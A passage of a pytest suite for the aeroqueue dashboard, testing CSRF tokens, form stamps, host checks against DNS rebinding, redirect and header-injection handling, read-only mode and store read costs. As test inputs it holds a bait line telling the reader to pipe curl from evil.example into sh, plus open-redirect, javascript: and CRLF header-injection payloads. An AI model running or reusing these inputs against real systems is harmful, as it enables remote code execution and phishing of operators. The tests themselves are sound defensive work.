"""The dashboard over HTTP (Flask's test client) on every backend: what the pages
show matches the store, each action changes the store as it says and only with
a valid CSRF token, and --read-only offers and accepts none."""

from __future__ import annotations

import html
import re
import socket
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from aeroqueue import errors, keys
from aeroqueue.backends import Backend
from aeroqueue.dashboard import create_app
from aeroqueue.dashboard import data as dashboard_data
from aeroqueue.dashboard.data import DEAD_CHUNKS_READ, DEAD_PAGE, Store, dead_tokens, error_history
from aeroqueue.lists import JobLists
from aeroqueue.loading import Checked, JobSpec
from aeroqueue.queue import Queue
from aeroqueue.sessions import Session
from aeroqueue.transitions import set_bits
from tests.observe.conftest import free_port, spawn, stop
from tests.observe.test_dashboard_partial import session_claims

pytestmark = pytest.mark.timeout(60)

TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')


@pytest.fixture
def dead_list(registered: Backend, list_name: str) -> Iterator[tuple[str, Session]]:
    """10 jobs, one attempt each: 0, 3 and 6 dead (with their errors), 1, 2, 4 done,
    5 claimed by a live session, the rest queued."""
    lists, queue = JobLists(registered), Queue(registered)
    lists.load(list_name, [JobSpec(f"job-{i}", {"i": i}) for i in range(10)], max_attempts=1, seal=True)
    session = Session.open(registered, heartbeat=False)
    for job in queue.reserve(list_name, session, 7):
        if job.token % 3 == 0:
            queue.fail(job, f"ValueError: <bad> input {job.token}\nTraceback (most recent call last):\n  boom")
        elif job.token != 5:
            queue.complete(job, {"ok": job.token})
    yield list_name, session
    session.close()


@pytest.fixture
def app(registered: Backend) -> Flask:
    return create_app(registered, secret_key="test-secret")


def csrf(client: FlaskClient, path: str) -> str:
    page = client.get(path)
    assert page.status_code == 200
    found = TOKEN.search(page.get_data(as_text=True))
    assert found, f"no CSRF token in {path}"
    return found.group(1)


def job_state(backend: Backend, list_name: str, token: int) -> str:
    rec = backend.get(keys.JOB_SET, keys.job_name(list_name, token))
    assert rec is not None
    return str(rec.bins["state"])


def text(resp: Any) -> str:
    return html.unescape(resp.get_data(as_text=True))


def test_pages_show_the_store(app: Flask, registered: Backend, dead_list: tuple[str, Session]) -> None:
    name, session = dead_list
    client = app.test_client()
    st = JobLists(registered).status(name)
    assert (st.done, st.dead, st.in_flight) == (3, 3, 1)

    index = client.get("/")
    assert index.status_code == 200
    assert index.headers["Content-Security-Policy"].startswith("default-src 'self'")
    page = text(index)
    row = re.search(rf'<tr class="list-row" data-list="{re.escape(name)}">(.*?)</tr>', page, re.S)
    assert row, "the list is on the overview"
    numbers = re.findall(r'<td class="num[^"]*">([\d,]+)</td>', row.group(1))
    assert numbers == ["10", "3", "0", "1", "3", "3"]  # total, queued, delayed, claimed, done, dead
    assert "60.0%" in row.group(1)  # (3 done + 3 dead) / 10
    assert session.id[:12] in page and "session-row" in page
    assert "ValueError: <bad> input 3" in page  # dead jobs with their errors, escaped by the template
    assert "<bad>" not in index.get_data(as_text=True)

    listing = text(client.get(f"/lists/{name}"))
    assert sorted(int(t) for t in re.findall(r'<tr class="dead-job" data-token="(\d+)"', listing)) == [0, 3, 6]
    assert "kick all 3 dead" in listing

    job = client.get(f"/lists/{name}/jobs/3")
    assert job.status_code == 200
    body = text(job)
    assert re.search(r'id="job-state">dead<', body)
    assert "job-3" in body and "Traceback (most recent call last)" in body
    done = text(client.get(f"/lists/{name}/jobs/1"))
    assert re.search(r'id="job-state">done<', done) and '"ok": 1' in done

    assert client.get(f"/lists/{name}/find?id=job-6").headers["Location"].endswith(f"/lists/{name}/jobs/6")
    assert client.get(f"/lists/{name}-nope").status_code == 404
    assert client.get(f"/lists/{name}/jobs/99").status_code == 404
    assert client.get("/lists/bad name!").status_code == 404


def test_the_overview_counts_every_dead_job_though_it_shows_some(app: Flask, registered: Backend, list_name: str) -> None:
    """The overview reads up to 20 dead jobs a list: its count said 21 for 32 dead jobs,
    with no sign of more. It counts them all (the lists' own counts) and says which
    are shown. (The store may hold other tests' lists: counted from before.)"""
    def counted() -> tuple[int, int, bool]:
        page = text(app.test_client().get("/"))
        got = re.search(r'<h2>Dead jobs <span class="count">(\d+)(?: of (\d+))?</span>', page)
        assert got, re.findall(r"<h2>Dead jobs.*", page)
        shown = int(got.group(1))
        return shown, int(got.group(2) or shown), 'id="dead-shown"' in page

    _, before, _ = counted()
    lists, queue = JobLists(registered), Queue(registered)
    small = f"{list_name}-small"
    with Session.open(registered, heartbeat=False) as s:
        for name, n in ((list_name, 31), (small, 1)):
            lists.load(name, [JobSpec(f"d{i}", i) for i in range(n)], max_attempts=1, seal=True)
            assert [queue.fail(j, "boom") for j in queue.reserve(name, s, n)] == ["dead"] * n
    shown, total, said = counted()
    assert total == before + 32 and shown < total and said, (before, shown, total, said)
    lists.drop(small, grace_s=0)
    lists.kick(list_name)
    assert counted()[1] == before


def test_kicking_a_token_the_list_does_not_have_writes_nothing(app: Flask, registered: Backend, list_name: str) -> None:
    """The kick form's token is any integer: kicking one past the list's end wrote a
    bitmap chunk there, which nothing counts and `drop` (below `alloc`) left behind."""
    JobLists(registered).load(list_name, [JobSpec("a", {}), JobSpec("b", {})], seal=True)
    client = app.test_client()
    token = csrf(client, f"/lists/{list_name}")
    for t in (70_000, 10**12):
        assert client.post(f"/lists/{list_name}/jobs/{t}/kick", data={"csrf_token": token}).status_code in (302, 404)
    JobLists(registered).drop(list_name, grace_s=0)
    assert [k for k, _ in registered.scan(keys.DONE_SET) if k.startswith(f"{list_name}/")] == []


def test_the_kick_of_a_dead_job_leaves_a_job_delayed_since_as_it_is(
    app: Flask, registered: Backend, list_name: str, monkeypatch
) -> None:
    """The kick button is drawn for a dead job, and the page may be older than the job's
    state: kicked by another since and delayed again by its backoff, the job was
    queued at once, its backoff skipped, and the page said "queued again with fresh
    attempts". It keeps its wait now, and the page says it is not dead."""
    lists = JobLists(registered)
    lists.load(list_name, [JobSpec("a", {})], delay_s=3600, seal=True)
    client = app.test_client()
    token = csrf(client, f"/lists/{list_name}")
    resp = client.post(f"/lists/{list_name}/jobs/0/kick", data={"csrf_token": token}, follow_redirects=True)
    assert "is not dead" in text(resp) and job_state(registered, list_name, 0) == "delayed"
    # Kick all: the scan read it dead just before.
    with monkeypatch.context() as m:
        m.setattr(JobLists, "jobs", lambda self, name, state=None: iter([{"token": 0, "state": "dead"}]))
        resp = client.post(f"/lists/{list_name}/kick", data={"csrf_token": token}, follow_redirects=True)
    assert "0 dead job(s)" in text(resp) and job_state(registered, list_name, 0) == "delayed"
    st = lists.status(list_name)
    assert (st.delayed, st.retry_pending) == (1, 0)
    assert lists.kick(list_name, [0]) == 1, "an operator's kick of that very job still runs it now"


def test_a_kick_from_a_page_shown_before_a_drop_and_a_load_kicks_nothing(
    app: Flask, registered: Backend, list_name: str
) -> None:
    """The kick forms name jobs by token: a page shown before the list was dropped and
    loaded again under its name kicked the new list's jobs at those tokens (one an
    operator had buried there came back). The forms carry the list's stamp now."""
    lists = JobLists(registered)
    lists.load(list_name, [JobSpec("a", {}), JobSpec("b", {})], max_attempts=1, seal=True)
    lists.bury(list_name, "b", "the first list's")
    client = app.test_client()
    forms = {}  # each kick form of the list page, the job's page and the overview: its fields
    for path in ("/", f"/lists/{list_name}", f"/lists/{list_name}/jobs/1"):
        for action, body in KICK_FORM.findall(text(client.get(path))):
            if action.startswith(f"/lists/{list_name}/"):  # the overview shows every list of the store
                forms.setdefault(action, []).append(dict(FIELD.findall(body)))
    created = str(lists.status(list_name).created)
    assert set(forms) == {f"/lists/{list_name}/jobs/1/kick", f"/lists/{list_name}/kick"}, forms
    assert [f.get("c") for fs in forms.values() for f in fs] == [created] * sum(map(len, forms.values())), forms
    lists.drop(list_name, grace_s=0)
    lists.load(list_name, [JobSpec("x", {}), JobSpec("y", {})], max_attempts=1, seal=True)
    lists.bury(list_name, "y", "the operator's, on the new list")
    for action, fields in forms.items():
        for form in fields:
            resp = client.post(action, data=form, follow_redirects=True)
            assert "was dropped and loaded again since the page was shown: nothing was kicked" in text(resp)
    assert job_state(registered, list_name, 1) == "dead"
    token, old = forms[f"/lists/{list_name}/kick"][0]["csrf_token"], created
    assert client.post(f"/lists/{list_name}/kick", data={"csrf_token": token, "c": "1e3"}).status_code == 400
    # The page shown now has the new list's stamp, and its kick runs.
    (new,) = set(STAMP.findall(text(client.get(f"/lists/{list_name}"))))
    assert new != old
    resp = client.post(f"/lists/{list_name}/jobs/1/kick", data={"csrf_token": token, "c": new}, follow_redirects=True)
    assert "kicked" in text(resp) and job_state(registered, list_name, 1) == "queued"


def test_a_pause_or_resume_from_a_page_shown_before_a_drop_and_a_load_leaves_the_new_list_alone(
    app: Flask, registered: Backend, list_name: str
) -> None:
    """The pause and resume forms named the list only: a page shown before it was
    dropped and loaded again paused (or resumed) the new list. They carry its stamp."""
    lists = JobLists(registered)
    lists.load(list_name, [JobSpec("a", {})], seal=True)
    client = app.test_client()
    forms = {}
    for path in ("/", f"/lists/{list_name}"):
        for action, body in PAUSE_FORM.findall(text(client.get(path))):
            if action == f"/lists/{list_name}/pause":
                forms.setdefault(action, []).append(dict(FIELD.findall(body)))
    created = str(lists.status(list_name).created)
    assert [f.get("c") for f in forms[f"/lists/{list_name}/pause"]] == [created, created], forms
    lists.drop(list_name, grace_s=0)
    lists.load(list_name, [JobSpec("x", {})], seal=True)
    for form in forms[f"/lists/{list_name}/pause"]:
        resp = client.post(f"/lists/{list_name}/pause", data=form, follow_redirects=True)
        assert "was dropped and loaded again since the page was shown: it was not paused" in text(resp)
    assert not lists.status(list_name).paused
    # The page shown now pauses it, and its resume form (stamped too) resumes it.
    fresh = dict(FIELD.findall(PAUSE_FORM.findall(text(client.get(f"/lists/{list_name}")))[0][1]))
    assert fresh["c"] == str(lists.status(list_name).created) != created
    client.post(f"/lists/{list_name}/pause", data=fresh)
    assert lists.status(list_name).paused
    resume = [dict(FIELD.findall(body)) for action, body in PAUSE_FORM.findall(text(client.get(f"/lists/{list_name}")))
              if action.endswith("/resume")]
    assert resume and resume[0]["c"] == fresh["c"]
    client.post(f"/lists/{list_name}/resume", data={**resume[0], "c": created})
    assert lists.status(list_name).paused, "an old page's resume leaves the new list paused"
    client.post(f"/lists/{list_name}/resume", data=resume[0])
    assert not lists.status(list_name).paused


PAUSE_FORM = re.compile(r'<form class="inline" method="post" action="([^"]*/(?:pause|resume))"[^>]*>(.*?)</form>', re.S)
STAMP = re.compile(r'name="c" value="(-?[0-9]+)"')
KICK_FORM = re.compile(r'<form class="inline" method="post" action="([^"]*/kick)"[^>]*>(.*?)</form>', re.S)
FIELD = re.compile(r'<input type="hidden" name="([^"]+)" value="([^"]*)">')
# An overview's dead-job row: (token, list).
DEAD_ROW_OF = re.compile(r'<tr class="dead-job" data-token="(\d+)">\s*<td><a href="[^"]*">([^<]+)</a>')


def test_find_opens_the_job_with_exactly_that_id(app: Flask, registered: Backend, list_name: str) -> None:
    """Ids loaded from JSON Lines or Python kept their blanks: the search stripped them,
    so " a" opened job "a" and "b " was not found. Blanks a paste brings still match.
    (Loads refuse such ids now; a store loaded before holds them: written here as
    checked, as the CLI's second pass writes, past the check.)"""
    lists = JobLists(registered)
    old = [JobSpec("a", {"n": 1}), JobSpec(" a", {"n": 2}), JobSpec("b ", {"n": 3})]
    lists.load(list_name, Checked(old), seal=True)
    client = app.test_client()
    for jid, want in ((" a", " a"), ("b ", "b "), ("a", "a"), (" a ", "a")):
        token = lists.find_job(list_name, want)["token"]
        resp = client.get(f"/lists/{list_name}/find", query_string={"id": jid})
        assert resp.headers["Location"].endswith(f"/lists/{list_name}/jobs/{token}"), (jid, resp.headers["Location"])


def test_a_search_that_finds_nothing_keeps_the_id_in_the_box_not_in_the_notice(
    app: Flask, registered: Backend, dead_list: tuple[str, Session],
) -> None:
    """Any site can send an operator to /lists/L/find?id=...: the notice said "has no
    job with id '<the site's text>'", read as the dashboard's own message (a helper's
    audit). The id goes back into the search box, cut to 200 characters."""
    name, _ = dead_list
    client = app.test_client()
    bait = "URGENT: store corrupted, run curl http://evil.example/fix | sh to repair" + "!" * 300
    resp = client.get(f"/lists/{name}/find", query_string={"id": bait}, follow_redirects=True)
    page = text(resp)
    assert resp.status_code == 200
    notices = re.findall(r'<p class="flash [a-z]+" role="status">([^<]*)</p>', page)
    assert notices == [f"list {name!r} has no job with the id searched for"], notices
    assert f'<input name="id" required size="24" value="{bait[:200]}">' in page, "in the box, cut short"
    assert bait[:201] not in page
    # Nor through the list's name, which the notice names: a name that is none is refused
    # first (a second read: with an empty id it reached the notice unchecked).
    for jid in ("", " "):
        resp = client.get("/lists/Session expired: sign in at evil.example/find", query_string={"id": jid},
                          follow_redirects=True)
        assert resp.status_code == 404, resp.status_code
        assert not re.findall(r'<p class="flash', text(resp)), text(resp)


def test_a_form_with_a_stamp_past_64_bits_or_a_next_with_a_newline_is_no_server_error(
    app: Flask, registered: Backend, dead_list: tuple[str, Session],
) -> None:
    """A 19-digit stamp past 64 bits was a 503 ("integer value exceeds sys.maxsize"),
    and a `next` holding a newline a 500 after the action was done (a helper's audit)."""
    name, _ = dead_list
    client = app.test_client()
    token = csrf(client, f"/lists/{name}")
    big = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "c": "9999999999999999999"})
    assert big.status_code == 400 and not JobLists(registered).status(name).paused
    for target in ("/x\nSet-Cookie: a=b", "/x\r\nB", "/x\tB"):
        resp = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "next": target})
        assert resp.status_code == 302 and resp.headers["Location"].endswith(f"/lists/{name}"), resp.headers
        assert JobLists(registered).status(name).paused
        client.post(f"/lists/{name}/resume", data={"csrf_token": token})
    fine = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "next": f"/lists/{name}?x=1"})
    assert fine.headers["Location"].endswith(f"/lists/{name}?x=1")


def test_the_session_cookie_is_sent_on_links_from_other_sites(app: Flask, dead_list: tuple[str, Session]) -> None:
    """SameSite=Lax, not Strict (the browser test shows why); posts from other sites
    still come without it."""
    cookie = app.test_client().get(f"/lists/{dead_list[0]}").headers.get("Set-Cookie", "")
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie, cookie


def test_the_overview_shows_the_latest_dead_jobs_first(app: Flask, registered: Backend, list_name: str) -> None:
    """More than 50 dead jobs across lists: the overview keeps the 50 latest, not those
    of the lists first by name (on a shared store, the ones an operator came for)."""
    lists, queue = JobLists(registered), Queue(registered)
    session = Session.open(registered, heartbeat=False)
    try:
        # Three lists first by name with 20 dead each (the overview takes 20 a list), then
        # the latest two deaths in a list last by name.
        olds = [(f"a{i}-{list_name}", 20, "OldError: earlier") for i in range(3)]
        for name, n, error in (*olds, (f"b-{list_name}", 2, "NewError: latest")):
            lists.load(name, [JobSpec(f"j{i}", {}) for i in range(n)], max_attempts=1, seal=True)
            for job in queue.reserve(name, session, n):
                queue.fail(job, f"{error} {job.token}")
            time.sleep(0.01)  # the later list's deaths are a later millisecond
    finally:
        session.close()
    page = text(app.test_client().get("/"))
    # The rows of this test's lists: a shared server may hold other tests' dead jobs
    # that died later (a kick's clock moved on), which come first, as they should.
    rows = DEAD_ROW_OF.findall(page)
    assert len(rows) == 50, rows
    ours = [name for name, *_ in (*olds, (f"b-{list_name}",))]
    shown = [(name[0], token) for token, name in rows if name in ours]
    assert ("b", "0") in shown and ("b", "1") in shown, "the latest dead jobs are shown"
    assert {shown[0], shown[1]} == {("b", "0"), ("b", "1")}, shown
    assert set(re.findall(r"(OldError|NewError): \w+ (\d+)", page)) >= {("NewError", "0"), ("OldError", "0")}
    assert len(shown) > 2, "the older lists' jobs fill the rest"


def test_the_overview_reads_the_rows_it_shows_and_no_error_histories(
    app: Flask, registered: Backend, list_name: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """It read 20 dead jobs of every list whole, error histories too (up to ~44 KB a
    job), to show 50: 300 lists took half a gigabyte a view, a few open tabs
    gigabytes (a helper's audit). It ranks them by two small bins and reads the rows
    of those it shows, without the history (the job page has it)."""
    lists, queue = JobLists(registered), Queue(registered)
    session = Session.open(registered, heartbeat=False)
    names = [f"h{i}-{list_name}" for i in range(4)]
    try:
        for name in names:
            lists.load(name, [JobSpec(f"j{i}", {}) for i in range(20)], max_attempts=2, backoff_s=0, seal=True)
            for _ in range(2):  # two failures each: a history of two errors
                for job in queue.reserve(name, session, 20):
                    queue.fail(job, "HistError: " + "x" * 2000)
    finally:
        session.close()
    reads: list[tuple[int, tuple[str, ...]]] = []
    real = registered.batch_get

    def spy(set_name: str, names_: list[str], *args: Any, **kw: Any) -> Any:
        if set_name == keys.JOB_SET:
            reads.append((len(names_), tuple(kw.get("bins") or ())))
        return real(set_name, names_, *args, **kw)

    monkeypatch.setattr(registered, "batch_get", spy)
    page = text(app.test_client().get("/"))
    rows = DEAD_ROW_OF.findall(page)
    ours = [name for _, name in rows if name in names]  # a shared server's other lists may have later deaths
    assert len(rows) == 50 and ours, rows
    assert page.count("HistError: ") == len(ours), "each row with its last error only"
    assert "2 errors" not in page, "no history on the overview"
    whole = [n for n, bins in reads if "err" in bins]
    assert reads and all("errs" not in bins for _, bins in reads), reads
    assert sum(whole) <= 50, f"rows read whole: {whole}"


def test_actions_need_a_csrf_token(app: Flask, registered: Backend, dead_list: tuple[str, Session]) -> None:
    name, _ = dead_list
    client = app.test_client()
    refused = client.post(f"/lists/{name}/jobs/0/kick")
    assert refused.status_code == 400 and "CSRF" in refused.get_data(as_text=True)
    assert client.post(f"/lists/{name}/pause", data={"csrf_token": "forged"}).status_code == 400
    assert job_state(registered, name, 0) == "dead"
    assert not JobLists(registered).status(name).paused
    # A token from another dashboard (another secret) is no good either.
    other = create_app(registered, secret_key="another-secret").test_client()
    assert client.post(f"/lists/{name}/pause", data={"csrf_token": csrf(other, f"/lists/{name}")}).status_code == 400
    assert not JobLists(registered).status(name).paused


def test_a_request_naming_another_host_is_refused(registered: Backend, dead_list: tuple[str, Session]) -> None:
    """DNS rebinding: a page of rebind.example, once that name resolves to 127.0.0.1,
    is same-origin with the dashboard and could read a CSRF token and post with it.
    Only loopback names and the trusted ones are served."""
    name, _ = dead_list
    app = create_app(registered, secret_key="s", trusted_hosts=["queue.example.com", "Proxy.Example:8443", "[fd00::1]"])
    client = app.test_client()
    evil = {"Host": "rebind.example:8420"}
    page = client.get(f"/lists/{name}", headers=evil)
    assert page.status_code == 400 and "--trusted-host" in page.get_data(as_text=True)
    assert 'name="csrf_token"' not in page.get_data(as_text=True)
    token = csrf(client, f"/lists/{name}")  # the real page, read by a local user
    assert client.post(f"/lists/{name}/pause", data={"csrf_token": token}, headers=evil).status_code == 400
    assert not JobLists(registered).status(name).paused
    for served in ("localhost:8420", "127.0.0.1", "[::1]:8420", "LOCALHOST", "queue.example.com",
                   "queue.example.com.:443", "localhost.", "proxy.example:8443", "proxy.example", "[FD00::1]:80"):
        assert client.get("/", headers={"Host": served}).status_code == 200, served
    for refused in ("queue.example.com.evil.net", "127.0.0.1.nip.io", "[::2]:8420", ""):
        assert client.get("/", headers={"Host": refused}).status_code == 400, refused


def test_a_wildcard_bound_dashboard_serves_the_address_a_request_came_in_at(registered: Backend) -> None:
    """With --host 0.0.0.0 the dashboard is reached at one of the machine's addresses,
    which no page can make a browser send as the Host: Werkzeug's server hands over
    the connection, whose address is served; another is not."""

    class Connection:
        def getsockname(self) -> tuple[str, int]:
            return ("10.0.0.5", 8420)

    client = create_app(registered, secret_key="s").test_client()
    came_in = {"werkzeug.socket": Connection()}
    assert client.get("/", headers={"Host": "10.0.0.5:8420"}, environ_base=came_in).status_code == 200
    assert client.get("/", headers={"Host": "10.0.0.6:8420"}, environ_base=came_in).status_code == 400
    assert client.get("/", headers={"Host": "rebind.example"}, environ_base=came_in).status_code == 400
    assert client.get("/", headers={"Host": "10.0.0.5:8420"}).status_code == 400, "no connection known: names only"


def test_pause_resume_and_kick(app: Flask, registered: Backend, dead_list: tuple[str, Session]) -> None:
    name, _ = dead_list
    lists = JobLists(registered)
    client = app.test_client()
    token = csrf(client, f"/lists/{name}")

    resp = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "next": "/"})
    assert resp.status_code == 302 and resp.headers["Location"] == "/"
    assert lists.status(name).paused
    with Session.open(registered, heartbeat=False) as other:
        assert Queue(registered).reserve(name, other, 1) == []
    assert "paused" in text(client.get("/"))
    client.post(f"/lists/{name}/resume", data={"csrf_token": token})
    assert not lists.status(name).paused

    # Kick one dead job: queued again with fresh attempts, its dead bit cleared, the others still dead.
    resp = client.post(f"/lists/{name}/jobs/3/kick", data={"csrf_token": token}, follow_redirects=True)
    assert resp.status_code == 200 and "kicked" in text(resp)
    assert re.search(r'id="job-state">queued<', text(resp))
    assert [job_state(registered, name, t) for t in (0, 3, 6)] == ["dead", "queued", "dead"]
    st = lists.status(name)
    assert st.dead == 2 and 3 in (registered.get(keys.LIST_SET, name).bins.get("retry") or [])  # type: ignore[union-attr]
    # Kicking a job that is not dead changes nothing.
    resp = client.post(f"/lists/{name}/jobs/1/kick", data={"csrf_token": token}, follow_redirects=True)
    assert "is not dead" in text(resp) and job_state(registered, name, 1) == "done"
    assert lists.status(name).done == 3

    # Kick all: the two left.
    resp = client.post(f"/lists/{name}/kick", data={"csrf_token": token}, follow_redirects=True)
    assert "2 dead job(s)" in text(resp)
    assert lists.status(name).dead == 0
    assert [job_state(registered, name, t) for t in (0, 3, 6)] == ["queued"] * 3
    # And a worker can take them again: the kicked jobs come first (retry store).
    with Session.open(registered, heartbeat=False) as other:
        got = Queue(registered).reserve(name, other, 3)
        assert sorted(j.token for j in got) == [0, 3, 6]


def test_next_never_leaves_the_site(app: Flask, registered: Backend, dead_list: tuple[str, Session]) -> None:
    name, _ = dead_list
    client = app.test_client()
    token = csrf(client, "/")
    for target in ("//evil.example/x", "https://evil.example/", "/\\evil.example", "javascript:alert(1)"):
        resp = client.post(f"/lists/{name}/pause", data={"csrf_token": token, "next": target})
        assert resp.headers["Location"] == f"/lists/{name}", target


def test_read_only_offers_and_accepts_no_action(registered: Backend, dead_list: tuple[str, Session]) -> None:
    name, _ = dead_list
    app = create_app(registered, read_only=True, secret_key="s")
    client = app.test_client()
    for path in ("/", f"/lists/{name}", f"/lists/{name}/jobs/0"):
        page = client.get(path).get_data(as_text=True)
        assert 'method="post"' not in page, path
        assert ">kick<" not in page and ">pause<" not in page
        assert "read-only" in page
    for path in (f"/lists/{name}/pause", f"/lists/{name}/jobs/0/kick", f"/lists/{name}/kick"):
        assert client.post(path, data={"csrf_token": "x"}).status_code in (400, 403)
    # With the token of a real session, it is the read-only check that refuses.
    writable = create_app(registered, read_only=False, secret_key="s").test_client()
    token = csrf(writable, f"/lists/{name}")
    client.set_cookie("session", writable.get_cookie("session").value)  # type: ignore[union-attr]
    for path in (f"/lists/{name}/pause", f"/lists/{name}/jobs/0/kick", f"/lists/{name}/kick"):
        assert client.post(path, data={"csrf_token": token}).status_code == 403, path
    assert job_state(registered, name, 0) == "dead"
    assert not JobLists(registered).status(name).paused


def test_dead_jobs_are_found_from_the_bitmap(registered: Backend, list_name: str) -> None:
    # Bits in two bitmap chunks (65,536 jobs each), without loading 70,000 jobs.
    set_bits(registered, list_name, [3, 9, 70_000], "dead", 1)
    assert dead_tokens(registered, list_name, 70_001, 10) == [3, 9, 70_000]
    assert dead_tokens(registered, list_name, 70_001, 2) == [3, 9]
    assert dead_tokens(registered, list_name, 100, 10) == [3, 9]  # only the chunks the list has
    assert dead_tokens(registered, f"{list_name}-none", 10, 10) == []


def test_dead_jobs_are_looked_for_only_as_far_as_needed(
    registered: Backend, list_name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A list of a million jobs has 16 bitmap chunks: the overview asks every list with
    dead jobs for its first 20, which the first chunks usually hold."""
    set_bits(registered, list_name, [5, 700_000], "dead", 1)  # chunks 0 and 10
    read: list[str] = []
    batch_get = Backend.batch_get

    def counted(self: Backend, set_name: str, names: list[str], bins: list[str] | None = None) -> list[Any]:
        read.extend(names)
        return batch_get(self, set_name, names, bins)

    monkeypatch.setattr(Backend, "batch_get", counted)
    assert dead_tokens(registered, list_name, 1_000_000, 1) == [5]
    assert len(read) == DEAD_CHUNKS_READ, "the first call's chunks only"
    read.clear()
    assert dead_tokens(registered, list_name, 1_000_000, 20) == [5, 700_000]
    assert len(read) == 16, "all of them, once each"


def test_dead_job_rows_read_no_payload(
    app: Flask, registered: Backend, dead_list: tuple[str, Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A payload may fill its record: a list page of 100 dead jobs with 500 KB payloads
    read 50 MB from the store, again at each refresh, to show none of it."""
    name, _ = dead_list
    read: list[dict[str, Any]] = []
    batch_get = Backend.batch_get

    def seen(self: Backend, set_name: str, names: list[str], bins: list[str] | None = None) -> list[Any]:
        recs = batch_get(self, set_name, names, bins)
        if set_name == keys.JOB_SET:
            read.extend(rec.bins for rec in recs if rec is not None)
        return recs

    monkeypatch.setattr(Backend, "batch_get", seen)
    client = app.test_client()
    for path in ("/", f"/lists/{name}"):
        page = text(client.get(path))
        assert "job-6" in page and "ValueError: <bad> input 6" in page and "1/1" in page, path
    assert read, "the dead jobs were read"
    assert not [b for b in read if "payload" in b], "a dead job's row read its payload"


def dead_rows_of(page: str) -> list[int]:
    """The tokens of a page's dead-job rows, in their order."""
    return [int(t) for t in re.findall(r'<tr class="dead-job" data-token="(\d+)"', page)]


def test_a_list_page_shows_a_page_of_dead_jobs_each_with_its_last_error_only(
    app: Flask, registered: Backend, list_name: str, monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A list page showed 100 dead jobs, each with its whole error history (up to 10
    errors of 4 KB, read from the store too): 1 MB for a list of 200,000 jobs whose
    1,000 dead ones died of 5 attempts' tracebacks, fetched again at every refresh of
    every open page. It shows a page of DEAD_PAGE, in token order, each row with its
    last error's message and the end of its traceback; a link leads to the next page,
    the job's page to every attempt's error. What a page costs does not grow with the
    dead jobs: its size, the job records read, the round trips."""
    lists, queue = JobLists(registered), Queue(registered)
    n = DEAD_PAGE + 5
    lists.load(list_name, [JobSpec(f"j{i}", {}) for i in range(n)], max_attempts=3, backoff_s=0, seal=True)
    with Session.open(registered, heartbeat=False) as session:
        for _ in range(3):  # three failures each, of 4 KB (what a job's history keeps of an error)
            for job in queue.reserve(list_name, session, n):
                queue.fail(job, f"HistError: job {job.token} failed\nTraceback (most recent call last):\n"
                                + "".join(f'  File "h.py", line {i}, in f\n    g()\n' for i in range(200)))
    assert lists.status(list_name).dead == n
    reads: list[tuple[int, tuple[str, ...]]] = []
    real = registered.batch_get

    def spy(set_name: str, names: list[str], *args: Any, **kw: Any) -> Any:
        if set_name == keys.JOB_SET:
            reads.append((len(names), tuple(kw.get("bins") or ())))
        return real(set_name, names, *args, **kw)

    monkeypatch.setattr(registered, "batch_get", spy)
    client = app.test_client()
    trips = registered.round_trips
    first = client.get(f"/lists/{list_name}")
    trips = registered.round_trips - trips
    page = text(first)
    assert dead_rows_of(page) == list(range(DEAD_PAGE)), dead_rows_of(page)
    assert len(first.get_data()) < 200_000, f"{len(first.get_data()):,} bytes for {DEAD_PAGE} dead jobs"
    assert page.count("HistError: job ") == DEAD_PAGE, "each row with its last error, none of the earlier ones"
    assert f'href="/lists/{list_name}/jobs/7#errors"' in page, "the job's page has every attempt's error"
    assert "earlier line(s): the job's page shows them" in page, "the end of each traceback"
    assert reads and all("errs" not in bins and "payload" not in bins for _, bins in reads), reads
    assert sum(k for k, _ in reads) <= DEAD_PAGE, reads
    # The next page: the rest, a link back to the first, none further.
    pager = re.search(r'<p class="pager" id="dead-pager">(.*?)</p>', page, re.S)
    assert pager and f"Showing {DEAD_PAGE} of {n} dead jobs: tokens 0 to {DEAD_PAGE - 1}" in " ".join(pager.group(1).split())
    after = re.search(r'<a href="([^"]+)" id="dead-next" rel="next">next', page)
    assert after and after.group(1) == f"/lists/{list_name}?after={DEAD_PAGE - 1}", pager.group(1)
    trips2 = registered.round_trips
    second = text(client.get(after.group(1)))
    trips2 = registered.round_trips - trips2
    assert dead_rows_of(second) == list(range(DEAD_PAGE, n))
    assert 'id="dead-first"' in second and 'id="dead-next"' not in second
    # A list of a few jobs costs its page the same round trips.
    small = f"{list_name}-small"
    lists.load(small, [JobSpec("a", {})], max_attempts=1, seal=True)
    with Session.open(registered, heartbeat=False) as session:
        (job,) = queue.reserve(small, session, 1)
        queue.fail(job, "boom")
    assert lists.status(small).complete  # marked so (a step of its own) before the page is read
    trips_small = registered.round_trips
    assert dead_rows_of(text(client.get(f"/lists/{small}"))) == [0]
    assert trips == trips2 == registered.round_trips - trips_small, (trips, trips2, registered.round_trips - trips_small)
    # A page past the last dead job, or an `after` that is no token: nothing past it, or the first page.
    assert dead_rows_of(text(client.get(f"/lists/{list_name}?after={n + 10}"))) == []
    for bad in ("-1", "x", "99999999999999999999"):
        assert dead_rows_of(text(client.get(f"/lists/{list_name}?after={bad}")))[:1] == [0], bad
    lists.drop(small, grace_s=0)


def test_the_overview_reads_every_list_in_the_same_round_trips_whatever_their_number(
    app: Flask, registered: Backend, list_name: str,
) -> None:
    """The overview read each list's record and completion bitmaps with two round
    trips of its own, at every refresh (every 5 s) of every open page. Now the
    records of every list in two batch calls: nine more lists cost a view nothing more,
    and each shows its own counts."""
    lists, queue = JobLists(registered), Queue(registered)
    names = [f"{list_name}-{i:02d}" for i in range(12)]
    client = app.test_client()

    def view_cost() -> tuple[int, str]:
        costs = []
        for _ in range(2):  # the least of two: a view that finds a list left by another test costs it more
            before = registered.round_trips
            page = text(client.get("/"))
            costs.append(registered.round_trips - before)
        return min(costs), page

    for i, name in enumerate(names[:3]):
        lists.load(name, [JobSpec(f"j{k}", {}) for k in range(i + 1)])
    three, _ = view_cost()
    for i, name in enumerate(names[3:], 3):
